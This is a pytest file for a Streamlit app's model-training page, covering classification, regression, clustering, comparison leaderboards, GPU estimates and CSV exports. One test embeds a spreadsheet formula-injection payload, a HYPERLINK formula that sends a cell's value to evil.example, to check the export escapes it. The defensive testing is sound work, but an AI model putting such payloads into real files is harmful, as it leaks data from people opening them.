"""The Models page through AppTest: train and compare, the charts per task, exports, bad choices."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from sklearn.datasets import load_iris
from streamlit.testing.v1 import AppTest

from pipeline.data.catalog import Catalog
from pipeline.data.io import Source
from pipeline.data.loading import load_file
from pipeline.engines import available_engines, device_status
from tests.support.apptest import open_page, problems


def open_models() -> AppTest:
    return open_page("pages/models.py")


def test_train_a_classifier_and_export_its_card():
    at = open_models()
    assert at.selectbox(key="model_target_classification").value == "target"
    at.selectbox(key="model_algorithm_classification").set_value(
        next(a for a in at.selectbox(key="model_algorithm_classification").options if "Random forest" in str(a))
    )
    at.run()
    at.number_input(key="model_random_forest_classifier_n_estimators").set_value(20).run()
    at.button(key="model_go").click().run()
    assert not problems(at)
    table = next(d.value for d in at.dataframe if "metric" in d.value.columns)
    accuracy = table.loc[table["metric"] == "accuracy", "CPU (pandas)"].item()
    assert accuracy > 0.8
    assert len(at.get("vega_lite_chart")) >= 2, "phase times and the confusion matrix"
    assert {b.key for b in at.get("download_button")} >= {"model_card", "model_predictions"}
    stored = at.session_state["model_result"]
    assert stored[2] == "random_forest_classifier" and stored[3]["n_estimators"] == 20


def test_regression_clustering_and_embedding_show_their_charts():
    at = open_models()
    at.radio(key="model_task").set_value("regression").run()
    at.selectbox(key="model_target_regression").set_value("sepal length (cm)").run()
    at.button(key="model_go").click().run()
    assert not problems(at)
    assert any("R²" in str(d.value["metric"].tolist()) for d in at.dataframe if "metric" in d.value.columns)
    at.radio(key="model_task").set_value("clustering").run()
    at.selectbox(key="model_labels_clustering").set_value("target").run()
    at.number_input(key="model_kmeans_n_clusters").set_value(3).run()
    at.button(key="model_go").click().run()
    assert not problems(at)
    table = next(d.value for d in at.dataframe if "metric" in d.value.columns)
    assert table.loc[table["metric"] == "adjusted Rand", "CPU (pandas)"].item() > 0.4
    at.radio(key="model_task").set_value("embedding").run()
    at.button(key="model_go").click().run()
    assert not problems(at)
    assert len(at.get("vega_lite_chart")) >= 2, "phase times and the embedding scatter"


def test_no_features_is_refused_and_the_page_stays_usable():
    at = open_models()
    at.multiselect(key="model_features_target").set_value([]).run()
    at.button(key="model_go").click().run()
    assert any("at least one feature" in e for e in problems(at))
    assert "model_result" not in at.session_state


def test_curves_scaling_and_compare_all():
    at = open_models()
    at.button(key="model_go").click().run()
    assert not problems(at)
    charts = len(at.get("vega_lite_chart"))
    assert charts >= 4, "phase times, ROC, precision-recall and the confusion matrix"
    at.button(key="model_scaling_go").click().run()
    assert not problems(at)
    assert len(at.get("vega_lite_chart")) == charts + 1
    at.button(key="model_compare_go").click().run()
    assert not problems(at)
    table = next(d.value for d in at.dataframe if "algorithm" in d.value.columns)
    algorithms, baseline = table[table["algorithm"] != "baseline: most frequent class"], table.iloc[-1]
    assert len(algorithms) == 5 and (algorithms["CPU (pandas) error"] == "").all()
    assert (algorithms["CPU (pandas) accuracy"] > 0.5).all()
    accuracy = table["CPU (pandas) accuracy"].tolist()
    assert accuracy == sorted(accuracy, reverse=True), "a leaderboard, best first"
    assert baseline["algorithm"] == "baseline: most frequent class" and baseline["CPU (pandas) accuracy"] < 0.5
    predict = table["CPU (pandas) predict (ms)"]
    assert pd.api.types.is_float_dtype(predict), "times stay numbers, so they sort and sit right-aligned"
    assert (algorithms["CPU (pandas) predict (ms)"] > 0).all() and algorithms["CPU (pandas) fit (ms)"].notna().all()
    assert all(t == float(f"{t:.4g}") for t in predict.dropna()), "milliseconds to 4 significant digits"
    assert pd.isna(baseline["CPU (pandas) predict (ms)"]), "a time the baseline has not stays empty"
    assert not [c for c in table.columns if "speed-up" in c], "no speed-up column where one engine ran"


def test_a_stopped_comparison_keeps_what_was_done_and_says_so():
    at = open_models()
    at.button(key="model_compare_go").click().run()
    key, rows = at.session_state["model_compare"]
    at.session_state["model_compare"] = (key, rows[:2])  # as a Stop click between two algorithms leaves them
    at.run()
    assert any("Stopped after 2 of 5 algorithms; those are kept" in w.value for w in at.warning)
    table = next(d.value for d in at.dataframe if "algorithm" in d.value.columns)
    assert len(table) == 2


def leaderboards(at: AppTest) -> list:
    return [d.value for d in at.dataframe if "algorithm" in d.value.columns]


def test_the_leaderboard_stays_in_view_and_a_stopped_rerun_keeps_the_one_before_beside_it(monkeypatch):
    import streamlit as st

    import pipeline.models.training as training

    at = open_models()
    at.button(key="model_compare_go").click().run()
    assert not problems(at)
    expander = next(e for e in at.expander if e.label.startswith("Compare every"))
    assert not [d for d in expander.dataframe if "algorithm" in d.value.columns], "not folded away in the expander"
    assert len(leaderboards(at)) == 1 and any(s.value == "Leaderboard" for s in at.subheader)
    assert len(at.session_state["model_rates"].seen) == 5, "each algorithm's time measured for the next time left"
    at.button(key="model_go").click().run()
    assert len(leaderboards(at)) == 1, "still there after the next click"
    compare_rows = training.compare_rows

    def stopped_after_two(*args, **kwargs):
        for number, row in enumerate(compare_rows(*args, **kwargs)):
            if number == 2:
                st.stop()  # as a click on Stop between two algorithms ends the script
            yield row

    monkeypatch.setattr(training, "compare_rows", stopped_after_two)
    at.button(key="model_compare_go").click().run()
    at.run()
    assert not problems(at)
    assert any("Stopped after 2 of 5 algorithms; those are kept beside the run before" in w.value for w in at.warning)
    assert [len(table) for table in leaderboards(at)] == [2, 6], "this run's two, and the run before (and baseline)"
    assert any("The run before" in m.value for m in at.markdown)
    monkeypatch.setattr(training, "compare_rows", compare_rows)
    at.button(key="model_compare_go").click().run()
    assert not problems(at) and [len(table) for table in leaderboards(at)] == [6], "a finished run stands alone"


@pytest.mark.skipif(device_status().available, reason="on a GPU machine the page measures the GPU instead")
def test_without_a_gpu_the_fit_time_sits_beside_published_speedups_as_an_estimate():
    at = open_models()
    at.radio(key="model_task").set_value("clustering").run()
    at.button(key="model_go").click().run()
    assert not problems(at)
    expander = next(e for e in at.expander if "Published GPU speed-ups" in e.label)
    table = next(d.value for d in expander.dataframe if "measured CPU time" in d.value.columns)
    assert table.loc[0, "similar published work"] == "k-means" and table.loc[0, "rows"] == "150"
    assert table.loc[0, "published speed-up"] == "15×–80× (measured at a size the source does not state)"
    assert "the published speed-ups state no table size" in table.loc[0, "sizes the sources measured"]
    assert table.loc[0, "GPU verdict (estimate)"].startswith("not expected to help at this size")
    assert "cuml.accel" in table.loc[0, "sources"] and "dask-blog issue #21" in table.loc[0, "sources"]
    assert all("estimate" in c for c in table.columns if "GPU" in c)


def test_ids_and_free_text_are_left_out_and_the_features_survive_a_task_change():
    from pipeline.data.catalog import Catalog
    from pipeline.data.io import Source
    from pipeline.data.loading import load_file
    from pipeline.engines import available_engines

    lines = ["id,comment,age,income,churned"] + [
        f"{i},note {i} from the shop,{20 + i % 50},{1000 + (i * 37) % 500},{'yes' if i % 3 else 'no'}"
        for i in range(200)
    ]
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("churn.csv", "\n".join(lines).encode()), available_engines())
    at = open_page("pages/models.py", catalog)
    assert at.selectbox(key="model_target_classification").value == "churned"
    assert at.multiselect(key="model_features_churned").value == ["age", "income"]
    assert any("'id': a different value in every row: likely an id" in c.value for c in at.caption)
    at.multiselect(key="model_features_churned").set_value(["age"]).run()
    at.radio(key="model_task").set_value("clustering").run()
    at.selectbox(key="model_labels_clustering").set_value("churned").run()
    assert at.multiselect(key="model_features_churned").value == ["age"], "the choice is kept across tasks"


def test_the_predictions_csv_opens_as_data_in_a_spreadsheet(downloads):
    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    iris = load_iris(as_frame=True).frame
    iris["target"] = iris["target"].map({0: link, 1: "@SUM(1+1)", 2: "-2+3"})
    buffer = io.BytesIO()
    iris.to_parquet(buffer)
    catalog = Catalog()
    load_file(catalog, Source.from_bytes("flowers.parquet", buffer.getvalue()), available_engines())
    at = open_page("pages/models.py", catalog)
    assert at.selectbox(key="model_target_classification").value == "target"
    at.button(key="model_go").click().run()
    assert not problems(at)
    rows = list(csv.reader(io.StringIO(downloads.data(at, "model_predictions").decode(), newline="")))
    assert rows[0][:2] == ["actual", "cpu prediction"]
    written = {cell for row in rows[1:] for cell in row}
    assert {"'" + link, "'@SUM(1+1)", "'-2+3"} <= written, "the labels are written as text"
    assert not written & {link, "@SUM(1+1)", "-2+3"}, "no label is written as a formula"


def test_a_regression_shows_rounded_metrics_and_the_line_where_prediction_equals_actual():
    at = open_models()
    at.radio(key="model_task").set_value("regression").run()
    at.selectbox(key="model_target_regression").set_value("sepal length (cm)").run()
    at.button(key="model_go").click().run()
    assert not problems(at)
    table = next(d.value for d in at.dataframe if "metric" in d.value.columns)
    values = table["CPU (pandas)"].tolist()
    assert all(v == "—" or float(v) == float(f"{float(v):.4g}") for v in values), values
    assert None not in values
    specs = [json.loads(chart.proto.spec) for chart in at.get("vega_lite_chart")]
    predicted = next(
        s
        for s in specs
        if "layer" in s and any(layer["encoding"]["x"].get("field") == "actual" for layer in s["layer"])
    )
    assert any(layer["mark"]["type"] == "line" for layer in predicted["layer"]), "y = x drawn"
    assert any("y = x" in c.value for c in at.caption)


def test_a_date_column_not_offered_is_named_with_the_step_that_makes_numbers_of_it():
    from tests.support.public_tables import load_public

    catalog = Catalog()
    load_public(catalog, "cars")
    at = open_page("pages/models.py", catalog)
    assert not problems(at)
    assert at.selectbox(key="model_target_classification").value == "Origin"
    assert any("Not offered as features or targets: 'Year' (dates" in c.value for c in at.caption), "not silently"
